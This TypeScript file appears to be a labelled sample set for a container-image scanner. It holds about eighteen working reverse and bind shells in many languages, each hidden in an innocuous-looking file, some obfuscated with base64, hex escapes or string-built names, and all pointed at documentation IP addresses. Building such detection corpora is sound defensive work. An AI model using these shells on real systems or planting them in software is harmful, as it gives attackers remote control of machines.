import { base64, hexEscaped } from './bytes.ts';
import { ofFamily } from './sample.ts';

/* All connect to documentation addresses (RFC 5737), which nobody has. */
export const samples = ofFamily('shell', [
  {
    id: 'shell-bash-tcp',
    level: 'easy',
    technique: 'Bash over its own TCP device (T1059.004).',
    files: { 'entrypoint.sh': '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n' },
    config: { Entrypoint: ['/entrypoint.sh'] },
    expect: 'malicious',
    where: 'entrypoint.sh',
  },
  {
    id: 'shell-bash-descriptors',
    level: 'ordinary',
    technique: 'The same with numbered descriptors, in a loop, host and port in variables (T1059.004).',
    files: {
      'usr/bin/health': `#!/usr/bin/env bash
H=198.51.100.3 P=$((4000+443))
while :; do
  exec 196<>/dev/tcp/$H/$P
  sh <&196 >&196 2>&196
  sleep 30
done
`,
    },
    config: { Healthcheck: { Test: ['CMD', '/usr/bin/health'] } },
    expect: 'malicious',
    where: 'usr/bin/health',
  },
  {
    id: 'shell-python-pty',
    level: 'easy',
    technique: 'Python: socket, dup2, pty.spawn (T1059.006).',
    files: {
      'app/main.py': `import socket,subprocess,os,pty
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.5",9001))
os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
pty.spawn("/bin/bash")
`,
    },
    expect: 'malicious',
    where: 'app/main.py',
  },
  {
    id: 'shell-python-indirect',
    level: 'hard',
    technique: 'Python with names from strings and a loop over the descriptors (T1059.006, T1027).',
    files: {
      'app/metrics.py': `so = __import__("soc" + "ket")
o = __import__("so"[::-1])
c = getattr(so, "create_connection")(("192.0.2.7", 8443))
for n in range(3):
    getattr(o, "dup" + "2")(c.fileno(), n)
getattr(o, "exec" + "l")("/bin/" + chr(115) + chr(104), "sh", "-i")
`,
    },
    expect: 'malicious',
    where: 'app/metrics.py',
  },
  {
    id: 'shell-perl',
    level: 'easy',
    technique: 'Perl: socket opened over the standard descriptors (T1059).',
    files: {
      'usr/bin/log': `#!/usr/bin/perl
use Socket;$i="192.0.2.10";$p=4242;
socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));
if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};
`,
    },
    expect: 'malicious',
    where: 'usr/bin/log',
  },
  {
    id: 'shell-ruby',
    level: 'ordinary',
    technique: 'Ruby: TCPSocket read into popen (T1059).',
    files: {
      'srv/worker.rb': `require 'socket'
c = TCPSocket.new(%w[203 0 113 9].join('.'), 4242)
while (line = c.gets)
  IO.popen(line, 'r') { |io| c.print io.read }
end
`,
    },
    expect: 'malicious',
    where: 'srv/worker.rb',
  },
  {
    id: 'shell-node',
    level: 'ordinary',
    technique: 'Node: net socket piped into a child shell (T1059.007).',
    files: {
      'app/server.js': `const { spawn } = require('child_process');
const net = require('net');
function go() {
  const sh = spawn('/bin/sh', []);
  const c = new net.Socket();
  c.connect(4444, '198.51.100.77', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });
  c.on('error', () => setTimeout(go, 5000));
}
go();
`,
    },
    expect: 'malicious',
    where: 'app/server.js',
  },
  {
    id: 'shell-php',
    level: 'easy',
    technique: 'PHP: fsockopen and proc_open (T1059).',
    files: {
      'var/www/cron.php':
        '<?php $s=fsockopen("192.0.2.55",4444);$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes); ?>\n',
    },
    expect: 'malicious',
    where: 'var/www/cron.php',
  },
  {
    id: 'shell-netcat-fifo',
    level: 'easy',
    technique: 'netcat without -e: a named pipe between shell and socket (T1059.004).',
    files: {
      'run.sh':
        '#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.10 1234 > /tmp/f\n',
    },
    config: { Cmd: ['/run.sh'] },
    expect: 'malicious',
    where: 'run.sh',
  },
  {
    id: 'shell-socat-listen',
    level: 'ordinary',
    technique: 'A bind shell by socat with a terminal of its own (T1059.004, T1571).',
    files: {
      'etc/init.d/monitor':
        '#!/bin/sh\nsocat TCP-LISTEN:31337,reuseaddr,fork EXEC:"bash -li",pty,stderr,setsid,sigint,sane &\n',
    },
    expect: 'malicious',
    where: 'etc/init.d/monitor',
  },
  {
    id: 'shell-openssl',
    level: 'ordinary',
    technique: 'Encrypted by openssl s_client, so that the wire shows TLS only (T1573.002).',
    files: {
      'opt/update': `#!/bin/sh
p=$(mktemp -u); mkfifo $p
/bin/sh -i < $p 2>&1 | openssl s_client -quiet -connect c.example.invalid:443 > $p; rm $p
`,
    },
    expect: 'malicious',
    where: 'opt/update',
  },
  {
    id: 'shell-awk',
    level: 'hard',
    technique: 'awk and its network files, where there is neither Python nor netcat (T1059.004).',
    files: {
      'usr/local/bin/stat': `#!/bin/sh
awk 'BEGIN{s="/inet/tcp/0/192.0.2.10/4242";while(42){do{printf "$ "|&s;s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!="exit")close(s)}}'
`,
    },
    expect: 'malicious',
    where: 'usr/local/bin/stat',
  },
  {
    id: 'shell-lua',
    level: 'ordinary',
    technique: 'Lua with luasocket, as in a plugin of nginx (T1059.011).',
    files: {
      'etc/nginx/lua/access.lua': `local t = require("socket").tcp()
t:connect("203.0.113.31", 4242)
while true do
  local c = t:receive()
  local f = io.popen(c, "r")
  t:send(f:read("*a"))
  f:close()
end
`,
    },
    expect: 'malicious',
    where: 'etc/nginx/lua/access.lua',
  },
  {
    id: 'shell-go-source',
    level: 'ordinary',
    technique: 'Go source that is built in the image (T1059).',
    files: {
      'src/main.go': `package main
import ("net"; "os/exec")
func main() {
	c, _ := net.Dial("tcp", "192.0.2.61:8443")
	cmd := exec.Command("/bin/sh")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	cmd.Run()
}
`,
    },
    expect: 'malicious',
    where: 'src/main.go',
  },
  {
    id: 'shell-powershell',
    level: 'ordinary',
    technique: 'PowerShell for Linux, the command encoded as UTF-16 (T1059.001, T1027).',
    files: {
      'opt/task.sh': `#!/bin/sh
pwsh -NoP -NonI -W Hidden -Enc ${base64(
        Buffer.from(
          '$c=New-Object Net.Sockets.TCPClient("192.0.2.10",443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}',
          'utf16le',
        ),
      )}
`,
    },
    expect: 'malicious',
    where: 'opt/task.sh',
  },
  {
    id: 'shell-base64-pipe',
    level: 'ordinary',
    technique: 'A shell in base64, piped to bash by the image itself (T1140).',
    files: { 'etc/hostname': 'worker\n' },
    config: {
      Cmd: ['sh', '-c', `echo ${base64('bash -i >& /dev/tcp/192.0.2.10/4444 0>&1')} | base64 -d | bash`],
    },
    expect: 'malicious',
    where: 'config',
  },
  {
    id: 'shell-printf-hex',
    level: 'hard',
    technique: 'A shell as hexadecimal escapes, evaluated (T1027.010).',
    files: {
      'docker-entrypoint.sh': `#!/bin/bash
set -e
x=$'${hexEscaped('sh -i 5<> /dev/tcp/198.51.100.8/443 0<&5 1>&5 2>&5')}'
eval "$x" &
exec "$@"
`,
    },
    config: { Entrypoint: ['/docker-entrypoint.sh'], Cmd: ['nginx'] },
    expect: 'malicious',
    where: 'docker-entrypoint.sh',
  },
  {
    id: 'shell-java',
    level: 'hard',
    technique: 'Java: process streams copied to a socket by hand (T1059).',
    files: {
      'srv/Beat.java': `import java.io.*; import java.net.*;
public class Beat { public static void main(String[] a) throws Exception {
  Process p = new ProcessBuilder("/bin/" + "sh").redirectErrorStream(true).start();
  Socket s = new Socket("192.0.2.10", 4444);
  InputStream pi = p.getInputStream(), si = s.getInputStream();
  OutputStream po = p.getOutputStream(), so = s.getOutputStream();
  while (!s.isClosed()) {
    while (pi.available() > 0) so.write(pi.read());
    while (si.available() > 0) po.write(si.read());
    so.flush(); po.flush(); Thread.sleep(50);
  } } }
`,
    },
    expect: 'malicious',
    where: 'srv/Beat.java',
  },
]);
